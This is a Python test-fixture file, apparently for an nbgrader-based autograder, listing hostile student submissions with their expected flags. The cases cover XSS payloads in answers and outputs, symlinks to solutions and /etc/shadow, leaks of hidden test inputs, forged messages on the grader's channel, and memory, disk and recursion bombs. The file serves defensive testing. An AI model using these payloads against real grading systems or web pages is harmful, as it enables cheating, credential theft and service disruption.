    Submission("x01_md_event_attributes", LAB1, "event-handler attributes in a written answer: <img onerror>, "
               "<svg onload>, <details ontoggle>, <video><source onerror>, <body onload>, mixed case", "",
               {"discussion": _written_answer(
                   f'<img src=x onerror="{XSS_ATTR}">\n<svg onload="{XSS_ATTR}"></svg>\n'
                   f'<details open ontoggle="{XSS_ATTR}"><summary>x</summary></details>\n'
                   f'<video><source onerror="{XSS_ATTR}"></video> <body onload="{XSS_ATTR}">\n'
                   f'<IMG SRC=x oNeRrOr="{XSS_ATTR}">')},
               flags=frozenset({"unsafe_content"})),
    Submission("x02_md_script_elements", LAB1, "script elements in a written answer: <script>, an external "
               "<script src>, a split <scr<script>ipt>, a <noscript> title breakout", "",
               {"discussion": _written_answer(
                   f"<script>{XSS_JS}</script>\n\n<script src=\"{BEACON}.js\"></script>\n\n"
                   f"<scr<script>ipt>{XSS_JS}</scr</script>ipt>\n\n"
                   f'<noscript><p title="</noscript><img src=x onerror=&quot;{XSS_ATTR}&quot;>"></noscript>')},
               flags=frozenset({"unsafe_content"})),
    Submission("x03_md_nested_documents", LAB1, "nested documents in a written answer: <iframe srcdoc>, <iframe "
               "src=data:>, <object data=>, <embed src=>", "",
               {"discussion": _written_answer(
                   f'<iframe srcdoc="{XSS_DOC.replace("&", "&amp;").replace(chr(34), "&quot;").replace("<", "&lt;")}">'
                   f'</iframe>\n<iframe src="{XSS_DATA_URL}"></iframe>\n<object data="{XSS_DATA_URL}"></object>\n'
                   f'<embed src="{XSS_DATA_URL}">')},
               flags=frozenset({"unsafe_content"})),
    Submission("x04_md_script_urls", LAB1, "links that run script: [x](javascript:), <a href=javascript:>, an "
               "entity-obfuscated java&#x09;script:, an autolink <javascript:...>, data:text/html, a relative link "
               "to a served file", "",
               {"discussion": _written_answer(
                   f"[click me](javascript:alert(document.domain)) and <javascript:alert(document.cookie)>\n\n"
                   f'<a href="{XSS_URL}">a proof</a> <a href="java&#x09;script:{XSS_ATTR}">another</a>\n'
                   f'<a href="{XSS_DATA_URL}">data</a> [my notes](notes.html) [d](data:text/html,hi)')},
               flags=frozenset({"unsafe_content"})),
    Submission("x05_md_page_hijack", LAB1, "page hijacks without script: <style> with @import and url(), a style "
               "attribute loading a URL, <link rel=stylesheet>, <meta http-equiv=refresh>, <base href>, an "
               "auto-targeted <form>", "",
               {"discussion": _written_answer(
                   f"<style>@import url({BEACON}.css); body {{ background: url({BEACON}-bg); }} "
                   f".nbgrader_cell {{ display: none }}</style>\n\n"
                   f'<div style="background-image: url({BEACON}-div)">styled</div>\n'
                   f'<link rel="stylesheet" href="{BEACON}-link.css">\n'
                   f'<meta http-equiv="refresh" content="0;url=http://127.0.0.1:@PORT@/refresh-@ME@">\n'
                   f'<base href="http://127.0.0.1:@PORT@/base-@ME@/">\n'
                   f'<form action="http://127.0.0.1:@PORT@/form-@ME@" method="post"><input name="q" value="x">'
                   f'<button autofocus>Full credit</button></form>')},
               flags=frozenset({"unsafe_content"})),
    # -- what a determined student tries next (1/6): sanitizer and parser differentials (mutation XSS)
    Submission("x06_md_mutation_xss", LAB1, "mutation XSS: MathML/SVG namespace confusion (<math><mtext><table>"
               "<mglyph><style>), <svg><p><style>, comment and CDATA tricks, a <template>, 3000 nested <div>s",
               "",
               {"discussion": _written_answer(
                   f'<math><mtext><table><mglyph><style><img src=x onerror="{XSS_ATTR}"></style></mglyph></table>'
                   f'</mtext></math>\n\n<svg><p><style><img src=x onerror="{XSS_ATTR}"></style></p></svg>\n\n'
                   f'<!--><img src=x onerror="{XSS_ATTR}">-->\n\n<svg><![CDATA[><img src=x onerror="{XSS_ATTR}">]]>'
                   f'</svg>\n\n<template><img src=x onerror="{XSS_ATTR}"></template>\n\n'
                   f'<math><mi xlink:href="{XSS_URL}">x</mi><maction actiontype="statusline" '
                   f'xlink:href="{XSS_URL}">y</maction></math>\n\n' + "<div>" * 3000 + "deep" + "</div>" * 3000)},
               flags=frozenset({"unsafe_content"})),
    # -- (2/6): the equation renderer (MathJax's \href, latex2mathml copying \text verbatim)
    Submission("x07_md_latex", LAB1, "payloads inside equations: \\href{javascript:...}, \\text{<img onerror>}, "
               "\\unicode, \\style, a text/latex output with \\href", "f returns 2x",
               {"discussion": _written_answer(
                   f"Clearly $\\href{{javascript:alert(1)}}{{x_t}}$ and $\\text{{<img src=x onerror=\"{XSS_ATTR}\">}}$ "
                   f"and $$\\style{{background:url({BEACON}-tex)}}{{x}} \\unicode{{<img src=x onerror=alert(1)>}}$$"),
                "f": F_2X + _display({"text/latex": "$$\\href{javascript:alert(1)}{x} "
                                                   "\\text{<img src=x onerror=alert(1)>}$$"})},
               zero=("f",), flags=frozenset({"unsafe_content"})),
    # -- (3/6): formgrader's own page: DOM clobbering of its globals, fake grade inputs, its widgets' classes
    Submission("x08_md_formgrader_hijack", LAB1, "hijacks formgrader's own page: DOM clobbering (id/name = "
               "base_url, submission_id, formgrader), fake score/comment inputs with the real grade ids, buttons "
               "with formgrader's classes", "",
               {"discussion": _written_answer(
                   f'<a id="base_url" href="http://127.0.0.1:@PORT@/clobber-@ME@">x</a>'
                   f'<img name="submission_id" src="data:image/png;base64,{PNG_1PX}">'
                   f'<form id="formgrader" name="formgrader"></form>\n'
                   f'<input class="score tabbable" id="discussion" value="2"> '
                   f'<textarea class="comment" id="discussion-comment">great</textarea>\n'
                   f'<button class="btn btn-success full-credit">Full credit</button> '
                   f'<div class="panel panel-primary nbgrader_cell"><span class="nbgrader-label">Score: 2 / 2</span></div>')},
               flags=frozenset({"unsafe_content"})),
    # ---- outputs of answer cells
    Submission("x09_out_raw_display", LAB1, "display(..., raw=True) of text/html (<img onerror>, <script>) and "
               "application/javascript in an answer cell", "df returns x**2",
               {"df": DF_SQ + _display({"text/html": f'<img src=x onerror="{XSS_ATTR}"><script>{XSS_JS}</script>',
                                        "text/plain": "a table"})
                      + _display({"application/javascript": XSS_JS})},
               zero=("df",), flags=frozenset({"unsafe_content"})),
    Submission("x10_out_repr_methods", LAB1, "an object with _repr_html_, _repr_javascript_, _repr_svg_, "
               "_repr_markdown_ as the answer cell's result", "f returns 2x",
               {"f": F_2X + (
                   "\n\nclass Report:\n"
                   f"    def _repr_html_(self):\n        return {IMG_ONERROR!r}\n\n"
                   f"    def _repr_javascript_(self):\n        return {XSS_JS!r}\n\n"
                   f"    def _repr_svg_(self):\n        return {SVG_SCRIPT!r}\n\n"
                   f"    def _repr_markdown_(self):\n        return {IMG_ONERROR!r}\n\n\n"
                   "Report()\n")},
               zero=("f",), flags=frozenset({"unsafe_content"})),
    Submission("x11_out_svg_widget_markdown", LAB1, "image/svg+xml with <script>, a widget view (with a state "
               "claim), text/markdown with raw HTML, an unknown text/x-html mime type", "gradient ascent",
               {"gradient_descent": GD_ASCENT
                + _display({"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg"><script>{XSS_JS}</script>'
                                             f'<image href="{BEACON}-svg"/></svg>'})
                + _display({"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2,
                                                                          "version_minor": 0},
                            "text/html": f'<img src=x onerror="{XSS_ATTR}">'})
                + _display({"text/markdown": f'# results\n<img src=x onerror="{XSS_ATTR}">'})
                + _display({"text/x-html": f"<script>{XSS_JS}</script>"})},
               zero=("gradient_descent",), flags=frozenset({"unsafe_content"})),
    # -- (4/6): output metadata and image data that templates print into attributes
    Submission("x12_out_metadata_breakout", LAB1, "attribute breakouts: PNG width/height metadata '1 onerror=...', "
               "a 'filenames' path, 'isolated' HTML, PNG data that is not base64 (\" onerror=...)", "f returns 2x",
               {"f": F_2X
                + _display({"image/png": PNG_1PX},
                           {"image/png": {"width": f"1 onerror={XSS_JS}", "height": "1 src=x onerror=alert(1)",
                                          "alt": f'"><img src=x onerror="{XSS_ATTR}">', "unconfined": True},
                            "filenames": {"image/png": f"{BEACON}.png"}})
                + _display({"image/png": f'x" onerror="{XSS_ATTR}'})
                + _display({"text/html": f"<script>{XSS_JS}</script>"}, {"text/html": {"isolated": True}})},
               zero=("f",), flags=frozenset({"unsafe_content"})),
    # -- (5/6): student strings the pipeline quotes in markdown: exception messages in the grading notes and
    #           verdicts, cell ids in the tamper report
    Submission("x13_exception_notes", LAB1, "exception messages with HTML/markdown payloads: raised by the answer "
               "cell in the grader's run (a grading note) and by the function when the check calls it (a verdict)",
               "df raises",
               {"df": ("def df(x):\n    raise ValueError("
                       + repr(IMG_ONERROR + " [click](javascript:alert(1)) $\\href{javascript:alert(1)}{x}$")
                       + ")\n\n\nraise RuntimeError("
                       + repr(IMG_ONERROR + " <script>" + XSS_JS + "</script> `` <b>`") + ")\n")},
               zero=("df",), flags=frozenset({"verdict_note"})),
    Submission("x14_tamper_report", LAB1, "payloads for the grader-facing tamper report: a code line with `` and "
               "<img onerror>, an extra graded cell whose grade_id is HTML", "f returns 2x",
               {"f": F_2X + f"\n\nimport os  # `` <img src=x onerror=\"{XSS_ATTR}\"> ``\nos.getcwd()\n"},
               zero=("f",), flags=frozenset({"tamper_suspect"}), edit="xss_grade_id"),
    # -- (6/6): the sanitizer's own cost: a deep, wide, slow-to-parse answer
    Submission("x15_sanitizer_bomb", LAB1, "cost of the page renderer: 2000 equations, 5000 unclosed brackets "
               "and 10000 emphasis markers in one written answer (no HTML: all of it is rendered)", "",
               {"discussion": _written_answer(" ".join(f"$x_{{{i}}}^2$" for i in range(2000)) + "\n\n"
                                              + "[" * 5000 + "*_" * 5000 + "\n")}),
]
SUBMISSIONS += XSS_SUBMISSIONS
# ============================================================================ end of the XSS block


# ---------------------------------------------------------------------------------------------------------
# >>> issue 11, intake and pairs: links and special files in a submission, hostile sizes, names, timestamps and
# PARTNER claims (the intake: grading/pipeline/intake.py; pairs: grading/pipeline/pairs.py). Keep this block last.

ALL = ("*",)
HIDDEN_MARKERS = '\n\n_markers = """\n' + "### BEGIN HIDDEN TESTS\n" * 4000 + '"""\n'  # no END: a quadratic regex
DEEP_CODE = "\n\n_deep = " + "+1" * 40_000 + "\n"                    # nested too deeply for a recursive parser
MAGICS = "\n" + "%time _ = 1\n" * 2000                                # IPython re-reads the cell for each line

SUBMISSIONS += [
    # breach 2: symlinked submissions
    Submission("i01_link_to_solution", LAB1, "the notebook is a symlink to solutions/<lab>/<lab>.ipynb",
               "nothing of its own", zero=ALL, flags=frozenset({"symlink"}), refused=True,
               files="link_notebook_to_solution"),
    Submission("i02_link_to_classmate", LAB1, "the notebook is a symlink to an honest classmate's notebook",
               "nothing of its own", zero=ALL, flags=frozenset({"symlink"}), refused=True,
               files="link_notebook_to_classmate"),
    Submission("i03_lab_folder_link", LAB3, "the lab folder is a symlink to solutions/<lab>/", "nothing of its own",
               zero=ALL, flags=frozenset({"symlink"}), refused=True, files="link_lab_folder_to_solutions"),
    Submission("i04_student_folder_link", LAB3, "the student folder is a symlink to an honest classmate's",
               "nothing of its own", zero=ALL, flags=frozenset({"symlink"}), refused=True,
               files="link_student_folder_to_classmate"),
    # breach 3: secrets copied into feedback
    Submission("i05_secret_links", LAB1, "extra files that are symlinks to the hidden seed, the gradebook, another "
               "lab's solution notebook and /etc/shadow (nbgrader copied them on to feedback/)", "f returns 2x",
               {"f": F_2X}, zero=("f",), flags=frozenset({"symlink"}), files="link_secrets"),
    # breach 5: someone else's grade
    Submission("i06_victim", LAB1, "(correct) named as PARTNER by i06_thief and i10_future_claim, who hand in later",
               "", flags=frozenset({"partner_unconfirmed"})),
    Submission("i06_thief", LAB1, "a blank notebook naming a classmate (i06_victim) as PARTNER, handed in later",
               "blank", zero=ALL, flags=frozenset({"partner_unconfirmed"}), partner="i06_victim",
               timestamp="2026-10-06 23:59:00 UTC", base="released"),
    # further attacks
    Submission("i07_hard_link", LAB1, "the notebook is a hard link to a copy of the solution outside the submission",
               "nothing of its own", zero=ALL, flags=frozenset({"hard_link"}), refused=True,
               files="hard_link_to_solution"),
    Submission("i08_fifo_notebook", LAB3, "a FIFO named like the notebook (a reader blocks forever)",
               "nothing of its own", zero=ALL, flags=frozenset({"not_a_regular_file"}), refused=True,
               files="fifo_notebook"),
    Submission("i09_timestamp_link", LAB3, "timestamp.txt is a symlink to the hidden seed",
               "Adam without bias correction", {"adam_step": ADAM_NO_BIAS}, zero=("adam_step",),
               flags=frozenset({"symlink"}), files="link_timestamp_to_seed"),
    Submission("i10_future_claim", LAB1, "a blank notebook dated 2099 naming i06_victim as PARTNER (the latest "
               "timestamp used to win a pair conflict)", "blank", zero=ALL,
               flags=frozenset({"bad_timestamp", "partner_unconfirmed"}), partner="i06_victim",
               timestamp="2099-01-01 00:00:00 UTC", base="released"),
    Submission("i11_bogus_timestamp", LAB3, "timestamp.txt of 10 KB of garbage", "momentum as an EMA",
               {"sgd_momentum_step": MOMENTUM_EMA}, zero=("sgd_momentum_step",), flags=frozenset({"bad_timestamp"}),
               timestamp="9" * 10_000),
    Submission("i12_200k_cells", LAB3, "a notebook of 200,000 cells", "nothing graded", zero=ALL,
               flags=frozenset({"too_many_cells"}), refused=True, files="notebook_of_200k_cells"),
    Submission("i13_gigabyte_notebook", LAB3, "a 1 GiB notebook (sparse)", "nothing graded", zero=ALL,
               flags=frozenset({"too_large"}), refused=True, files="sparse_gigabyte_notebook"),
    Submission("i14_deep_json", LAB1, "a notebook whose JSON nests a million levels deep", "nothing graded",
               zero=ALL, flags=frozenset({"not_a_notebook"}), refused=True, files="deeply_nested_json"),
    Submission("*", LAB3, "a student directory named '*' (nbgrader globs with the student id: every classmate's "
               "notebook)", "nothing graded", zero=ALL, flags=frozenset({"invalid_student_id"}), refused=True),
    Submission("i16_two_notebooks", LAB1, "two notebooks: the lab's (wrong) and lab01-final.ipynb, a copy of the "
               "source notebook with the solutions", "f returns 2x", {"f": F_2X}, zero=("f",),
               files="second_notebook_with_the_solution"),
    Submission("i17_cycle_a", LAB3, "PARTNER cycle of three: names i17_cycle_b", "minibatches never shuffles",
               {"minibatches": MINIBATCHES_NO_SHUFFLE}, zero=("minibatches",),
               flags=frozenset({"partner_unconfirmed"}), partner="i17_cycle_b"),
    Submission("i17_cycle_b", LAB3, "PARTNER cycle of three: names i17_cycle_c",
               "AdaGrad-Norm without the square root", {"adagrad_norm_step": ADAGRAD_NO_SQRT},
               zero=("adagrad_norm_step",), flags=frozenset({"partner_unconfirmed"}), partner="i17_cycle_c"),
    Submission("i17_cycle_c", LAB3, "PARTNER cycle of three: names i17_cycle_a", "rho and 1 - rho swapped",
               {"rmsprop_step": RMSPROP_SWAPPED}, zero=("rmsprop_step",),
               flags=frozenset({"partner_unconfirmed"}), partner="i17_cycle_a"),
    Submission("i18_partner_10mb", LAB3, "PARTNER is a 10 MB string", "Adam without bias correction",
               {"adam_step": ADAM_NO_BIAS}, zero=("adam_step",), flags=frozenset({"oversized_cell"}),
               edit="partner_of_10_mb"),
    Submission("i19_deep_code", LAB1, "an answer cell nested 40,000 levels deep (the grader parses it: "
               "RecursionError, MemoryError or a crash)", "f returns 2x", {"f": F_2X + DEEP_CODE}, zero=("f",),
               flags=frozenset({"tamper_suspect"})),
    Submission("i20_ipython_magics", LAB3, "2,000 lines of %time in an answer cell (IPython's translation is "
               "quadratic)", "momentum as an EMA", {"sgd_momentum_step": MOMENTUM_EMA + MAGICS},
               zero=("sgd_momentum_step",), flags=frozenset({"tamper_suspect"})),
    Submission("i21_hidden_markers", LAB1, "4,000 '### BEGIN HIDDEN TESTS' lines in an answer (the feedback's "
               "hidden-region regex is quadratic)", "df returns x**2", {"df": DF_SQ + HIDDEN_MARKERS}, zero=("df",)),
    Submission("i22_scrambled_junk", LAB3, "nbgrader metadata removed and 400 junk cells of 2 KB (answers found by "
               "content: difflib on every pair)", "minibatches never shuffles",
               {"minibatches": MINIBATCHES_NO_SHUFFLE}, zero=("minibatches",),
               flags=frozenset({"answer_matched_by_content"}), edit="scramble_and_add_junk"),
    Submission("i23_huge_outputs", LAB1, "15 MB of outputs and output metadata in the submitted notebook",
               "f returns 2x", {"f": F_2X}, zero=("f",), edit="huge_outputs"),
    Submission("i24_directory_notebook", LAB3, "a directory named like the notebook", "nothing graded", zero=ALL,
               flags=frozenset({"not_a_regular_file"}), refused=True, files="directory_as_notebook"),
    Submission("i25_long_grade_ids", LAB1, "every grade_id is 10,000 characters", "gradient ascent",
               {"gradient_descent": GD_ASCENT}, zero=("gradient_descent",),
               flags=frozenset({"answer_matched_by_content"}), edit="long_grade_ids"),
]
# <<< issue 11, intake and pairs


# ---------------------------------------------------------------------------------------------------------
# >>> issue 11, hidden cases, copies of the reference and the grader's bounds (breaches 4 and 6; the grader
# survives any submission): grading/pipeline/verdict.py, secret.py, sandbox.py; lablib/grading/harness.py,
# tripwire.py, wire.py. The checks: tests/adversarial/checks.py (same block). Keep this block last.

# The harness's channel, as an attacker reaches it (its output descriptor is its last argument); in the notebook's
# kernel there is none and the attacks fall back to the wrong answer.
CHANNEL = ("import json as _json, os as _os, struct as _struct, sys as _sys, time as _time\n"
           "try:\n    _OUT = int(_sys.argv[-1])\nexcept ValueError:\n    _OUT = None\n\n\n"
           "def _forge(message):\n    data = _json.dumps(message).encode()\n"
           "    _os.write(_OUT, _struct.pack('>Q', len(data)) + data)\n\n\n")
RECORDER = ("_SEEN = []\n\n\ndef f(x):\n    _SEEN.append(np.asarray(x, dtype=float).tolist())\n    return x * x\n")
# A copy of a module of lablib's, run again from its source (a fresh function object the guard never sees)
EXEC_SOURCE = ("import functools, inspect, types\nimport lablib.landscapes, lablib.optim\n\n\n"
               "def _copy_of(module, name):\n    namespace = {'__name__': module.__name__}\n"
               "    exec(inspect.getsource(module), namespace)\n    return namespace[name]\n\n\n")
EXIT_FIRST = "import os as _os, time as _time\n_time.sleep(0.3)\n_os._exit(0)\n\n\n"
LAB3_ANSWERS = ("minibatches", "sgd_momentum_step", "adagrad_norm_step", "rmsprop_step", "adam_step")

SUBMISSIONS += [
    # breach 4: hidden cases recorded by one exercise's function, shown through another's messages
    Submission("w01_hidden_leak_exception", LAB1, "f records its inputs (hidden ones too); df raises with them "
               "(a public check's message)", "df raises", {"f": RECORDER,
               "df": "def df(x):\n    raise ValueError('LEAK:' + repr(_SEEN[-6:]))\n"}, zero=("df",)),
    Submission("w02_hidden_leak_channels", LAB1, "the recorded inputs come back as df's values, printed lines and "
               "warnings, and as gradient_descent's value (a string put in its place)", "df and gradient_descent",
               {"f": RECORDER.replace("    return x * x", "    globals()['gradient_descent'] = 'LEAK:' + "
                                                           "repr(_SEEN[-3:])\n    return x * x"),
                "df": ("import warnings\n\n\ndef df(x):\n    warnings.warn('LEAK:' + repr(_SEEN[-3:]))\n"
                       "    print('LEAK:', _SEEN[-3:])\n"
                       "    seen = np.ravel(np.asarray(_SEEN[-1] if _SEEN else [7.0], dtype=float))\n"
                       "    return np.resize(seen, np.shape(x)) if np.ndim(x) else float(seen[0])\n"),
                "gradient_descent": GD_ASCENT}, zero=("df", "gradient_descent")),
    Submission("w03_forged_mistake_line", LAB1, "f raises with its inputs behind a forged 'This matches a known "
               "mistake' line (a hidden check's text kept that line)", "f raises",
               {"f": ("def f(x):\n    raise ValueError('\\n  This matches a known mistake — LEAK: ' "
                      "+ repr(np.asarray(x, dtype=float).tolist()))\n")}, zero=("f",)),
    # breach 6: copies of the reference
    Submission("w04_copy_while_unguarded", LAB1, "a thread copies square_grad's code whenever the guard is off "
               "(between the grader's requests) and df runs the copy", "df returns x**2 until it has a copy",
               {"df": ("import threading, types\nimport lablib.landscapes as _L\n_COPY = []\n\n\ndef _grab():\n"
                       "    import time\n    for _ in range(40_000):\n        code = _L.square_grad.__code__\n"
                       "        if 'tripwire' not in code.co_filename:\n"
                       "            _COPY.append(types.FunctionType(code, vars(_L), 'mine'))\n            return\n"
                       "        time.sleep(0.0005)\n\n\nthreading.Thread(target=_grab, daemon=True).start()\n\n\n"
                       "def df(x):\n    return _COPY[0](x) if _COPY else x ** 2\n")},
               zero=("df",), flags=frozenset({"copied_reference"})),
    Submission("w05_copy_exec_source", LAB1, "f runs lablib.landscapes.square exec'd again from "
               "inspect.getsource, behind functools.wraps and a closure", "f: lablib's code",
               {"f": EXEC_SOURCE + ("def _make():\n    square = _copy_of(lablib.landscapes, 'square')\n\n"
                                    "    @functools.wraps(square)\n    def inner(x):\n        return square(x)\n"
                                    "    return inner\n\n\nf = _make()\n")},
               zero=("f",), flags=frozenset({"copied_reference"})),
    Submission("w06_copy_renamed", LAB1, "gradient_descent is types.FunctionType of the exec'd reference's code, "
               "renamed, called through functools.partial", "gradient_descent: lablib's code",
               {"gradient_descent": EXEC_SOURCE + (
                   "_mine = types.FunctionType(_copy_of(lablib.optim, 'gradient_descent').__code__, "
                   "vars(lablib.optim), 'my_descent')\n\n\ndef gradient_descent(grad, x0, lr, n_steps, tol=None):\n"
                   "    return functools.partial(_mine, grad)(x0, lr, n_steps, tol)\n")},
               zero=("gradient_descent",), flags=frozenset({"copied_reference"})),
    Submission("w07_watch_switched_off", LAB1, "f switches the grader's copy watch off (sys.settrace(None)) and "
               "then runs the copy", "f: lablib's code",
               {"f": EXEC_SOURCE + ("_square = _copy_of(lablib.landscapes, 'square')\n\n\ndef f(x):\n"
                                    "    import sys, threading\n    sys.settrace(None)\n"
                                    "    threading.settrace(None)\n    return _square(x)\n")},
               zero=("f",), flags=frozenset({"copied_reference"})),
    # the grader survives: the channel
    Submission("w08_forged_cell_frames", LAB1, "df's cell writes 300 forged 'cell' frames into the harness's "
               "channel (each used to restart the grader's wait)", "df returns x**2",
               {"df": DF_SQ + "\n\n" + CHANNEL + "if _OUT is not None:\n    for _ in range(300):\n"
                      "        _forge({'op': 'cell', 'index': 0})\n        _time.sleep(0.05)\n"},
               zero=("df",), flags=frozenset({"protocol_error"})),
    Submission("w09_unread_reply", LAB1, "gradient_descent sends the grader a callback whose reply (8 MB) fills "
               "the pipe, and never reads it", "gradient ascent",
               {"gradient_descent": CHANNEL + GD_ASCENT.replace("def gradient_descent", "def _ascent") + (
                   "\n\ndef gradient_descent(grad, x0, lr, n_steps, tol=None):\n"
                   "    cells = [c.cell_contents for c in (getattr(grad, '__closure__', None) or ())]\n"
                   "    ident = next((c for c in cells if isinstance(c, int)), None)\n"
                   "    if _OUT is not None and ident is not None:\n"
                   "        from lablib.grading import wire\n"
                   "        _forge({'op': 'callback', 'id': ident, 'args': wire.encode([np.zeros(1 << 20)]), "
                   "'kwargs': {'dict': []}})\n        _time.sleep(120)\n"
                   "    return _ascent(grad, x0, lr, n_steps, tol)\n")},
               zero=("gradient_descent",), flags=frozenset({"timeout"})),
    Submission("w10_handle_flood", LAB1, "f returns 20,000 objects with 10 KB reprs (handles kept by the grader)",
               "f returns objects",
               {"f": ("class _Big:\n    def __repr__(self):\n        return 'r' * 10_000\n\n\n"
                      "def f(x):\n    return [_Big() for _ in range(20_000)]\n")},
               zero=("f",), flags=frozenset({"protocol_error"})),
    Submission("w11_reply_amplifier", LAB1, "gradient_descent asks grad for 2 * x of 4 million int8 (a 5 MB "
               "request, a 43 MB reply), then ascends", "gradient ascent",
               {"gradient_descent": GD_ASCENT.replace("def gradient_descent", "def _ascent") + (
                   "\n\ndef gradient_descent(grad, x0, lr, n_steps, tol=None):\n    try:\n"
                   "        grad(np.ones(4_000_000, dtype=np.int8))\n    except Exception:\n        pass\n"
                   "    return _ascent(grad, x0, lr, n_steps, tol)\n")},
               zero=("gradient_descent",)),
    Submission("w12_callback_storm", LAB1, "gradient_descent calls grad a million times (one round trip each)",
               "never returns in time",
               {"gradient_descent": ("def gradient_descent(grad, x0, lr, n_steps, tol=None):\n"
                                     "    x = np.asarray(x0, dtype=float)\n    for _ in range(1_000_000):\n"
                                     "        grad(x)\n    return np.array([x])\n")},
               zero=("gradient_descent",), flags=frozenset({"timeout"})),
    Submission("w13_repr_bomb", LAB1, "df returns an object whose __repr__ never ends (the sandbox names it)",
               "df returns an object",
               {"df": ("class _Slow:\n    def __repr__(self):\n        while True:\n            pass\n\n\n"
                       "def df(x):\n    return _Slow()\n")},
               zero=("df",), flags=frozenset({"timeout"})),
    Submission("w14_deep_result", LAB1, "f returns a list nested 100,000 deep", "f returns a nested list",
               {"f": ("def f(x):\n    value = []\n    for _ in range(100_000):\n        value = [value]\n"
                      "    return value\n")}, zero=("f",)),
    # the grader survives: memory and disk
    Submission("w15_metadata_bomb", LAB1, "f's cell displays 5 outputs with 20 MB of metadata each (the output "
               "cap counted text and data only)", "f returns 2x",
               {"f": F_2X + "\n\nfor _ in range(5):\n    display({'text/plain': 'x'}, "
                            "metadata={'junk': 'z' * 20_000_000}, raw=True)\n"},
               zero=("f",), flags=frozenset({"huge_output"})),
    Submission("w16_message_bomb", LAB1, "df's cell displays one output of 80 MB (one ZeroMQ message over the "
               "grader's limit)", "df returns x**2",
               {"df": DF_SQ + "\n\ndisplay({'text/plain': 'y'}, metadata={'junk': 'z' * 80_000_000}, raw=True)\n"},
               zero=("df",)),
    Submission("w17_huge_exception", LAB1, "df raises with a 12 MB message, in its cell and when called",
               "df raises",
               {"df": "def df(x):\n    raise ValueError('e' * 12_000_000)\n\n\ndf(1.0)\n"},
               zero=("df",), flags=frozenset({"huge_output"})),
    Submission("w18_disk_filler", LAB1, "f's cell writes 12 files of 60 MB into its work directory (720 MB on the "
               "grader's disk)", "f returns 2x",
               {"f": F_2X + ("\n\nfor _i in range(12):\n    try:\n        with open(f'fill{_i}.bin', 'wb') as _fh:\n"
                             "            _fh.write(b'x' * (60 << 20))\n    except OSError:\n        break\n")},
               zero=("f",)),
    # the grader survives: restarts
    Submission("w19_exit_every_cell", LAB3, "every answer cell sleeps and exits the process (os._exit): each "
               "restart replayed the slow cells before it", "nothing runs",
               {gid: EXIT_FIRST for gid in LAB3_ANSWERS}, zero=ALL, flags=frozenset({"too_many_restarts"})),
    Submission("w20_exit_on_every_call", LAB3, "every function exits the process when called (a restart per "
               "check, each replaying the cells: at most 12)", "nothing returns",
               {gid: "import os as _os\n\n\ndef " + gid + "(*args, **kwargs):\n    _os._exit(0)\n"
                for gid in LAB3_ANSWERS},
               zero=LAB3_ANSWERS, flags=frozenset({"sandbox_died"})),   # the quiz answers are data, read first
    Submission("w21_slow_cell", LAB3, "adam_step's cell sleeps 40 s (the grader's run of a cell waited 60 s)",
               "Adam without bias correction", {"adam_step": ADAM_NO_BIAS + "\n\nimport time\ntime.sleep(40)\n"},
               zero=("adam_step",), flags=frozenset({"timeout"})),
]
# <<< issue 11, hidden cases, copies of the reference and the grader's bounds
